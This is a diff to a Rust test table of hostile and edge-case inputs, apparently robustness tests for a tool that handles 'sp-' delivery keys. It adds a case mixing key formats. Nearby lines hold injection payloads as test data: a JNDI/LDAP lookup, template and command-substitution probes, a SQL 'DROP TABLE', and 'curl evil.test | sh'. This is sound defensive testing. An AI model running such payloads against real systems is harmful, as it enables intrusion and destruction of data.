@@ -61,6 +61,7 @@ pub(super) static CASES: &[Case] = &[
     told("templates", |p| p.says("${jndi:ldap://evil.test/x} {{7*7}} <%= 7 %> $(id) `id` %(x)s")),
     told("sql and shell", |p| p.says("'; DROP TABLE sessions; -- \" || curl evil.test | sh #")),
     told("the key of a delivery", |p| p.says("sp-01929f3e000070008000000000000001 sp-01929f3e000070008000000000000001~2:user")),
+    told("keys in every shape", |p| p.with(r#""label":"sp-01929f3e000070008000000000000001","output":{"tail":"x SP-01929F3E000070008000000000000001 sp-01929f3e000070008000000000000001~tell\nsp-01929f3e\u200b000070008000000000000001","path":"/x/sending/a,sp-01929f3e000070008000000000000001,0.json"},"task":{"command":["spool","show","sp-01929f3e000070008000000000000001"],"cwd":"/sp-01929f3e000070008000000000000001"}"#)),
     told("one line of 200,000", |p| p.says(&"x".repeat(200_000))),
     told("100,000 empty lines", |p| p.says(&"\n".repeat(100_000))),
     told("50,000 short lines", |p| p.says(&"a\n".repeat(50_000))),
